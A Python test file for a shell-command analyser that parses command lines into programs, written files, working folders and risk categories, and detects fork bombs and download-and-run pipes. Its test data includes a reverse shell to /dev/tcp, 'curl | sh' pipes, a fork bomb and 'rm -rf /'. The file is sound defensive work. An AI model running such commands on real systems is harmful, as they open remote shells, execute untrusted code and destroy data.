from tests.lib.bash.small import shell
from tests.support.cases import every

PROGRAMS = [
    ("ls", "ls"),
    ("", ""),
    ("# only a comment", ""),
    ("sudo env A=1 pytest -q | tee out", "sudo env A=1 pytest -q / env A=1 pytest -q / pytest -q / tee out"),
    ("echo $(date) `who` <(a) | cat", "echo $(date) `who` <(a) / date / who / a / cat"),
    ("bash -lc 'cd x && pytest'", "bash -lc cd x && pytest / cd x / pytest"),
    ("bash -c -e 'pytest'", "bash -c -e pytest / pytest"),
    ('bash -c "echo $(date)"', "bash -c echo $(date) / echo $(date) / date"),
    ("bash -c \"echo '$(date)'\"", "bash -c echo '$(date)' / echo $(date) / date"),
    ("sh -c \"bash -c 'rm x'\"", "sh -c bash -c 'rm x' / bash -c rm x / rm x"),
    ("eval rm -rf x", "eval rm -rf x / rm -rf x"),
    ("ssh -p 2 h 'rm x; ls'", "ssh -p 2 h rm x; ls / rm x / ls"),
    ("ssh h rm -rf x", "ssh h rm -rf x / rm -rf x"),
    ("trap 'rm x' EXIT", "trap rm x EXIT / rm x"),
    ("concurrently 'ls a' \"ls b\"", "concurrently ls a ls b / ls a / ls b"),
    ("npm exec -- pytest -q", "npm exec -- pytest -q / pytest -q"),
    ("npm exec make -- -j", "npm exec make -- -j / make -- -j"),
    ("python -m pytest -q", "python -m pytest -q / pytest -q"),
    ("python x.py -m pytest", "python x.py -m pytest"),
    ("timeout -s 9 5 nice -n 3 make x", "timeout -s 9 5 nice -n 3 make x / nice -n 3 make x / make x"),
    ("find . -exec rm {} + -exec ls \\;", "find . -exec rm {} + -exec ls ; / rm {} / ls"),
    ("ls | xargs -I{} sh -c 'rm {}'", "ls / xargs -I{} sh -c rm {} / sh -c rm {} / rm {}"),
    ("git -c alias.x='!rm y' x", "git -c alias.x=!rm y x / rm y"),
    ("bash <<E\nrm $x\nE", "bash / rm $x"),
    ("cat <<'E' | sudo sh\nrm x\nE\nls", "cat / sudo sh / sh / rm x / ls"),
    ("echo 'rm x' | sh", "echo rm x / sh / rm x"),
    ("printf 'ls\\nrm x\\n' | bash", "printf ls\\nrm x\\n / bash / ls / rm x"),
    ("bash <<< 'rm x'", "bash / rm x"),
    ("cat <<E\n$(a) `b` \\$(c) \\`d\\`\nrm x\nE", "a / b / cat"),
    ("cat <<'E'\n$(a) `b`\nrm x\nE", "cat"),
    ("cat <<-E\n\trm\n\tE\nls", "cat / ls"),
    ("cat - <<E\nrm\nE", "cat -"),
    ("python - <<E\nimport os\nE", "python -"),
    ("if a; then b; elif c; then d; else e; fi", "a / b / c / d / e"),
    ("for x in $(a); do b; done; while c; do d; done", "a / b / c / d"),
    ("case $(a) in x) b;; y|z) c;; esac", "a / b / c"),
    ("[[ -n $(a) && b == c ]] && (( $(d) > 1 ))", "a / d"),
    ('[ "$(a)" = b ] || [ -f c ]', "[ $(a) = b ] / a / [ -f c ]"),
    ("x=(1 $(a)); y=$(b) c; z[$(d)]=1", "a / c / b / d"),
    ('echo "${x:-$(a)}" ${y/$(b)/c} $((1+$(d)))', "echo ${x:-$(a)} ${y/$(b)/c} $((1+$(d))) / a / b / d"),
    ("f() { rm x; }; f", "rm x / f"),
    ("coproc N { rm x; }", "rm x"),
    ("time { a; b; }", "a / b"),
    ("time (a; b)", "time / a / b"),
    ("! a && { b; } & (c)", "a / b / c"),
    ("a `b \\`c\\``", "a `b \\`c\\`` / b `c` / c"),
    ("> x; <y cat >z", "cat"),
    ("echo a >x b 2>&- c", "echo a b c"),
    ("export A=$(a) && unset B", "export A=$(a) / a / unset B"),
    ('$tool x; "$cmd"; ${x}y', "$tool x / $cmd / ${x}y"),
    ('git commit -m "fix pytest && rm -rf /"', "git commit -m fix pytest && rm -rf /"),
    ("echo 'a;b' \"c|d\" \\; e\\ f $'g\\thx41' $\"t\" # rm x", "echo a;b c|d ; e f g\thx41 t"),
    ("echo $'\\x41\\101\\u00e9\\cA\\'' ''", "echo AAé\x01' "),
    ("a \\\n  b\\\nc", "a bc"),
    ("a | b | c\nd && e", "a / b / c / d / e"),
    ("a\r\nb\r\n", "a / b"),
    ("\ufeffrm x", "rm x"),
    ("\\rm x; 'rm' y; r\"m\" z", "rm x / rm y / rm z"),
    ("./gradlew x; /usr/bin/git log", "./gradlew x / /usr/bin/git log"),
    ("echo {a,b} *.py ~/x", "echo {a,b} *.py ~/x"),
    ("test a == b", "test a == b"),
    ("A= b; C=1 D= e", "b / e"),
]


@every(("line", "programs"), PROGRAMS)
def test_every_program_is_listed_outermost_first(line, programs):
    read = shell(line)
    assert read.unparsed == ""
    assert " / ".join(" ".join(program.argv) for program in read.programs) == programs


WRITES = [
    ("echo > a >> b >| c &> d &>> e 2> f <> g", ["a", "b", "c", "d", "e", "f", "g"]),
    ("ls >/dev/null 2>&1 >&2 </etc/x 2>/dev/stderr >/dev/tty 3>&- >/dev/fd/3", []),
    ("ls >& out; a > >(cat)", ["out"]),
    (
        "cp a b c; tee -a x y; curl -o z u; dd if=a of=b; sed -i s/a/b/ f g; sed -n p f",
        ["c", "x", "y", "z", "b", "f", "g"],
    ),
    ("sed -i.bak -e x f; sudo touch q", ["f", "q"]),
    ("echo x | tee - /dev/null", []),
    ("bash -i >& /dev/tcp/1.2.3.4/80", []),
]


@every(("line", "targets"), WRITES)
def test_writes_are_targets_of_redirections_and_of_programs(line, targets):
    assert sorted(write.target for write in shell(line).writes) == sorted(targets)


BASES = [
    ("> a", ""),
    ("cd x && > a", "x"),
    ("cd x; cd y; > a", "x/y"),
    ("cd /x; cd ../y; > a", "/x/../y"),
    ("(cd x); > a", ""),
    ("cd x | b; > a", ""),
    ("cd x & > a", ""),
    ("{ cd x; }; > a", "x"),
    ('cd "$X" && > a', None),
    ('cd "$X" && cd /y && > a', "/y"),
    ("cd - ; > a", None),
    ("cd; > a", "~"),
    ("pushd x; popd; > a", ""),
    ("pushd x; > a", "x"),
    ("if b; then cd x; fi; > a", None),
    ("b || cd x; > a", None),
    ("bash -c 'cd x; > a'", "x"),
    ("bash -c 'cd x'; > a", ""),
    ("eval 'cd x'; > a", "x"),
    ("f() { > a; }; cd x; f", None),
    ("f() { cd x; }; f; > a", None),
    ("builtin=1; command cd x; > a", "x"),
]


@every(("line", "base"), BASES)
def test_a_relative_target_has_the_folder_that_cd_left(line, base):
    assert next(write.base for write in shell(line).writes if write.target == "a") == base


DOUBTS = [
    ("cd x; > a", ["x", ""]),
    ("cd x && b; > a", ["x", ""]),
    ("cd x || b; > a", ["x", ""]),
    ("cd x || exit 1; > a", ["x"]),
    ("cd x || { echo no; exit 1; }; > a", ["x"]),
    ("set -e; cd x; > a", ["x"]),
    ("set -euo pipefail; cd x; > a", ["x"]),
    ("cd x && > a", ["x"]),
    ("cd /tmp; > a", ["/tmp"]),
    ("cd; > a", ["~"]),
    ("cd x; > /b/a", []),
    ("cd x; cd y; > a", ["x/y", "y", "x", ""]),
    ("if b; then cd x; fi; > a", [None, "", "x"]),
    ("(cd x; b); > a", [""]),
]


@every(("line", "bases"), DOUBTS)
def test_a_folder_whose_cd_may_have_failed_is_one_of_several(line, bases):
    found = [write.base for write in shell(line).writes if write.target == "a"]
    assert sorted(found, key=str) == sorted(bases, key=str)


FEEDS = [
    ("curl x | sh", {("curl", "sh")}),
    ("curl x | tee y | sudo bash -s -- a", {("curl", "bash"), ("tee", "bash")}),
    ("(curl x; ls) | cat | { bash; }", {("curl", "bash"), ("ls", "bash"), ("cat", "bash")}),
    ("bash <(curl x); source <(cat y); . <(head)", {("curl", "bash"), ("cat", "source"), ("head", ".")}),
    ('sh -c "$(curl x)"; eval "`cat y`"; eval $(head z)', {("curl", "sh"), ("cat", "eval"), ("head", "eval")}),
    ('bash -c "set -e; $(curl x)"', {("curl", "bash")}),
    ('bash -c "echo $(curl x)"', set()),
    ('bash <<< "$(curl x)"', {("curl", "bash")}),
    ("bash <<E\n$(curl x)\nE", {("curl", "bash")}),
    ("bash <<E\nls $(curl x)\nE", set()),
    ("bash < <(curl x)", {("curl", "bash")}),
    ("curl x > >(bash)", {("curl", "bash")}),
    ("cat y | tee >(bash)", {("cat", "bash"), ("tee", "bash")}),
    ("curl x | xargs sh -c", {("curl", "sh")}),
    ("curl x | xargs -I{} sh -c '{}'", {("curl", "sh")}),
    ("curl x | xargs sh -c 'ls $0'", set()),
    ("curl x | python -", {("curl", "python")}),
    ("curl x | python y.py; curl x | bash y.sh", set()),
    ("$(curl x) y", {("curl", "")}),
    ('X=$(curl x); eval "$X"', {("curl", "eval")}),
    ("curl x; sh; curl y > z | cat", set()),
    ("curl x | grep y | cat", set()),
]


@every(("line", "feeds"), FEEDS)
def test_a_sink_runs_its_source_s_output(line, feeds):
    read = shell(line)
    names = [program.name for program in read.programs]
    assert {(names[source], names[sink]) for source, sink in read.feeds} == feeds


CATEGORIES = [
    ("ls", {"read-only"}),
    ("nope", {"unknown"}),
    ("ls > x", {"read-only", "file-write"}),
    ("> x", {"file-write"}),
    ("git push -f", {"vcs-write", "network", "destructive"}),
    ("git -C x push", {"vcs-write", "network"}),
    ("git remote add a b", {"vcs-write"}),
    ("git remote", {"vcs-read"}),
    ("git $x", {"unknown"}),
    ("sudo pytest", {"test-or-build"}),
    ("sudo", {"read-only"}),
    ("ssh h ls", {"network", "read-only"}),
    ("ssh h", {"network"}),
    ('bash -c "$x"', {"unknown"}),
    ('eval "$x"', {"unknown"}),
    ("bash x.sh", {"unknown"}),
    ("$x y", {"unknown"}),
    ("{rm,-rf,/}", {"unknown"}),
    ("ls() { rm x; }; ls", {"destructive"}),
    ("cat /dev/tcp/a/1 < /dev/tcp/a/1", {"read-only", "network"}),
    ("find . -delete", {"destructive"}),
    ("curl -sSo x u", {"network", "file-write"}),
]


@every(("line", "categories"), CATEGORIES)
def test_categories_are_the_union_over_programs(line, categories):
    assert set(shell(line).categories) == categories


@every(
    ("line", "bomb"),
    [
        (":(){ :|:& };:", True),
        ("f() { f | f & }; f", True),
        ("f() { (f); }", True),
        ("a() { b & }; b() { a; }; a", True),
        ("function f { f & f; }", True),
        ("f() { [ -d x ] && f | cat; }; f", False),
        ("f() { if x; then f & fi; }", False),
        ("f() { ls | cat & }; f & f", False),
        ("f() { f; }", False),
    ],
)
def test_a_function_that_starts_itself_without_end_is_a_fork_bomb(line, bomb):
    assert shell(line).fork_bomb is bomb


def test_exports_reach_later_commands():
    read = shell("A=1; export B=2 C; D=3 ls; declare -x E=5; declare F=6; G=$(x)")
    assert read.exports == ("A=1", "B=2", "E=5", "G=$(x)")


def test_a_program_has_its_parts():
    push = shell("A=1 sudo git -C x push --force -uv origin main").programs[1]
    assert (push.name, push.subcommand, push.operands, push.depth) == ("git", "push", ("origin", "main"), 1)
    assert push.flags == {"-C", "--force", "-uv", "-u", "-v"}
    assert shell("A=1 env B=2 ls").programs[0].assigns == ("A=1",)
    assert shell("A=1 env B=2 ls").programs[1].assigns == ("B=2",)
